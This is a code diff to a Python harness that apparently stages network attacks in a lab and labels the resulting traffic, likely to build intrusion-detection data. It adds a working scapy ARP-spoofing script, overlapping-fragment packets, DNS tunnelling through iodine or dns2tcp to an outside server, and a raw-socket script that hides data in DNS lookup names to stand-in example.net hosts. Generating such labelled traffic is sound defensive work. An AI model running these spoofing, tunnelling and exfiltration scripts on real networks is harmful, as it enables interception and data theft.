@@ -17,6 +17,8 @@ from world import SPOOFED, write
 COLUMNS = ("start", "end", "src", "dst", "proto", "dport", "class", "kind", "tool",
            "description")
 PASSWORDS = "/srv/guesses.txt"
+# Debian's, which has scapy; the one that runs this may be another.
+PYTHON = "/usr/bin/python3"
 
 
 class Attack:
@@ -45,6 +47,22 @@ class Attack:
         self.rows.append((f"{begun:.6f}", f"{time.time() + 0.3:.6f}", src, dst, proto, dport,
                           CLASS[self.kind], self.kind, self.tool, text))
 
+    def rule_of_many(self, begun, src, dst, proto, dport, text):
+        """A rule for made-up sources, or for all addresses: hosts that exist are not meant."""
+        self.rule(begun, src, dst, proto, dport, text)
+        start, end = self.rows[-1][:2]
+        others = [h.address for h in self.world.hosts.values() if h not in self.sources]
+        for address in others:
+            a, b = (address, dst) if src == "any" else (src, address)
+            if a != b:
+                self.rows.append((start, end, a, b, proto, dport, "Normal", "", "", ""))
+
+    def searched_by_router(self, begun):
+        """A sweep from outside makes the router ask who has each address."""
+        if self.sources[0].is_outside:
+            self.rule_of_many(begun, self.world.gateway, str(self.world.inside), "arp", "any",
+                              "the router looks for the addresses of the sweep")
+
     def shoot(self, text, *command, dst=None, proto="any", dport="any", seconds=60, source=None):
         """Run a tool from the first source, for so long at most, and note it."""
         source = source or self.sources[0]
@@ -63,6 +81,9 @@ class Attack:
             except subprocess.TimeoutExpired:
                 process.terminate()
                 process.wait()
+        if src == "any":
+            self.rule_of_many(begun, src, dst or self.victim.address, proto, dport, text)
+            return
         for host in self.sources:
             self.rule(begun, src or host.address, dst or self.victim.address, proto, dport, text)
             if src:
@@ -73,11 +94,13 @@ class Attack:
 
 def ping_sweep(a):
     net = str(a.world.inside)
+    begun = time.time()
     if a.tool == "fping":
         a.shoot("echo requests to all addresses", "fping", "-q", "-a", "-g", net, "-r", "1",
                 dst=net)
     else:
         a.shoot("host discovery of all addresses", "nmap", "-n", "-sn", net, dst=net)
+    a.searched_by_router(begun)
 
 
 def port_scan(a):
@@ -87,7 +110,7 @@ def port_scan(a):
             "udp": "-sU", "version": "-sV", "ack": "-sA"}[way]
     rate = str(a.get("rate", 400))
     ports = str(a.get("ports", 1000))
-    text = f"{way} scan of {ports} ports, {rate} a second at most"
+    text = f"{'connect' if a.tool == 'connect.py' else way} scan of {ports} ports, {rate} a second at most"
     victim = a.victim.address
     if a.tool == "masscan":
         a.shoot(text, "masscan", victim, "-p", f"1-{ports}", "--rate", rate, "--wait", "2",
@@ -103,7 +126,11 @@ def port_scan(a):
 
 
 def slow_scan(a):
-    """A few ports a second or less, in random order, from one host after the other."""
+    """A few ports a second or less, in random order."""
+    if a.tool == "connect.py":
+        a.shoot("slow connect scan", sys.executable, "-c", CONNECT, a.victim.address,
+                str(a.get("ports", 200)), str(a.get("rate", 3)), proto="tcp", seconds=80)
+        return
     a.shoot("slow SYN scan", "nmap", "-n", "-Pn", "-sS", "--max-rate",
             str(a.get("rate", 3)), "--top-ports", str(a.get("ports", 200)), "--max-retries", "0",
             a.victim.address, seconds=80)
@@ -112,6 +139,7 @@ def slow_scan(a):
 def service_sweep(a):
     """One port at all addresses."""
     net = str(a.world.inside)
+    begun = time.time()
     port = str(a.get("port", 445))
     if a.tool == "masscan":
         a.shoot(f"port {port} at all addresses", "masscan", net, "-p", port, "--rate", "200",
@@ -120,6 +148,7 @@ def service_sweep(a):
     else:
         a.shoot(f"port {port} at all addresses", "nmap", "-n", "-Pn", "-sS", "-p", port,
                 "--max-rate", "200", "--max-retries", "0", net, dst=net)
+    a.searched_by_router(begun)
 
 
 def _router_mac(a):
@@ -209,7 +238,7 @@ def land(a):
 def fragments(a):
     """Fragments that overlap, or whose rest never comes."""
     begun = time.time()
-    a.sources[0].do(sys.executable, "-c", FRAGMENTS, a.sources[0].address, a.victim.address,
+    a.sources[0].do(PYTHON, "-c", FRAGMENTS, a.sources[0].address, a.victim.address,
                     str(a.get("packets", 300)), timeout=30)
     a.rule(begun, a.sources[0].address, a.victim.address, "any", "any",
            "overlapping and unfinished fragments")
@@ -223,11 +252,10 @@ conf.verb = 0
 src, dst, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
 batch = []
 for i in range(n):
-    whole = IP(src=src, dst=dst, id=1000 + i, proto=17)
     batch.append(IP(src=src, dst=dst, id=1000 + i, flags="MF", frag=0, proto=17) /
-                 Raw(bytes(UDP(sport=4000 + i, dport=53, len=64)) + bytes(28)))
+                 Raw(bytes(UDP(sport=4000 + i, dport=53, len=64)) + bytes(32)))
     if i % 3:
-        batch.append(IP(src=src, dst=dst, id=1000 + i, frag=3 if i % 3 == 1 else 2, proto=17) /
+        batch.append(IP(src=src, dst=dst, id=1000 + i, frag=4 if i % 3 == 1 else 3, proto=17) /
                      Raw(bytes(24)))
 send(batch, inter=0.01)
 """
@@ -338,32 +366,62 @@ def beacon(a):
 
 
 def dns_tunnel(a):
-    """iodine to a server outside, and something through it."""
+    """iodine or dns2tcp to a server outside, and something through it."""
     begun = time.time()
-    client = a.sources[0].start("iodine", "-f", "-r", "-P", "secret", "-T",
-                                a.get("record", "NULL"), a.victim.address, "t.example.net")
+    host = a.sources[0]
+    if a.tool == "dns2tcp":
+        client = host.start("dns2tcpc", "-z", "d.example.net", "-k", "secret", "-r", "web", "-l",
+                            "8053", "-T", a.get("record", "TXT"), a.victim.address)
+        url = "http://127.0.0.1:8053/page1.html"
+    else:
+        client = host.start("iodine", "-f", "-r", "-P", "secret", "-T", a.get("record", "NULL"),
+                            a.victim.address, "t.example.net")
+        url = "http://10.99.0.1/page1.html"
     time.sleep(6)
     end = begun + a.get("seconds", 40)
     while time.time() < end:
-        a.sources[0].do("ping", "-c", "5", "-i", "0.3", "-s", "400", "10.99.0.1", timeout=8)
-        a.sources[0].do("curl", "-s", "-o", "/dev/null", "--max-time", "6",
-                        "http://10.99.0.1/page1.html", timeout=8)
+        if a.tool == "iodine":
+            host.do("ping", "-c", "5", "-i", "0.3", "-s", "400", "10.99.0.1", timeout=8)
+        host.do("curl", "-s", "-o", "/dev/null", "--max-time", "6", url, timeout=8)
+        time.sleep(0.5)
     client.terminate()
     client.wait()
-    a.rule(begun, a.sources[0].address, a.victim.address, "udp", "53", "tunnel in DNS")
+    a.rule(begun, host.address, a.victim.address, "udp", "53", "tunnel in DNS")
 
 
 def dns_theft(a):
     """Data in the names of lookups at the local resolver, by one host that asks
     nothing else."""
     begun = time.time()
-    end = begun + a.get("seconds", 30)
-    while time.time() < end:
+    seconds = a.get("seconds", 30)
+    if a.tool == "lookup.py":
+        a.sources[0].do(sys.executable, "-c", LOOKUPS, a.victim.address, str(seconds),
+                        str(a.rng.random()), timeout=seconds + 10)
+    while a.tool == "dig" and time.time() < begun + seconds:
         label = "%060x" % a.rng.getrandbits(240)
         a.sources[0].do("dig", "+tries=1", f"@{a.victim.address}",
                         f"{label}.{a.rng.randrange(999)}.x.example.net", "TXT", timeout=4)
     a.rule(begun, a.sources[0].address, a.victim.address, "udp", "53",
            "data in the names of lookups")
+
+
+LOOKUPS = """
+import random, socket, sys, time
+rng = random.Random(sys.argv[3])
+s = socket.socket(2, 2)
+s.settimeout(1)
+s.connect((sys.argv[1], 53))
+end = time.time() + float(sys.argv[2])
+while time.time() < end:
+    label = bytes(rng.choice(b"abcdefghijklmnopqrstuvwxyz234567") for _ in range(50))
+    name = b"".join(bytes([len(w)]) + w for w in (label, b"y", b"example", b"net")) + b"\\0"
+    s.send(rng.randbytes(2) + b"\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + b"\\0\\1\\0\\1")
+    try:
+        s.recv(2000)
+    except OSError:
+        pass
+    time.sleep(rng.uniform(0.05, 0.4))
+"""
 
 
 def theft(a):
@@ -396,13 +454,30 @@ def reverse_shell(a):
 def arp_spoof(a):
     """The attacker claims to be the router."""
     begun = time.time()
-    spoof = a.sources[0].start("arpspoof", "-i", "eth0", "-t", a.victim.address, a.world.gateway)
+    host = a.sources[0]
+    if a.tool == "scapy":
+        words = (PYTHON, "-c", CLAIM, a.world.gateway, a.victim.address)
+    else:
+        words = ("arpspoof", "-i", "eth0", "-t", a.victim.address, a.world.gateway)
+    spoof = host.start(*words)
     time.sleep(a.get("seconds", 20))
     spoof.terminate()
     spoof.wait()
     a.rule(begun, a.world.gateway, a.victim.address, "arp", "any",
-           "answers nobody asked for: the attacker is the router")
+           f"answers nobody asked for: the attacker is the router, from {begun:.6f}")
+    # The two have asked for each other before, in the flow that the answers become part of.
+    a.rows[-1] = ("*", *a.rows[-1][1:])
 
+
+CLAIM = """
+import logging, sys
+logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
+from scapy.all import ARP, Ether, getmacbyip, sendp
+gateway, victim = sys.argv[1:]
+mac = getmacbyip(victim)
+sendp(Ether(dst=mac) / ARP(op=2, psrc=gateway, pdst=victim, hwdst=mac), inter=1, loop=1,
+      verbose=0)
+"""
 
 DO = {
     "ping_sweep": ping_sweep, "port_scan": port_scan, "slow_scan": slow_scan,
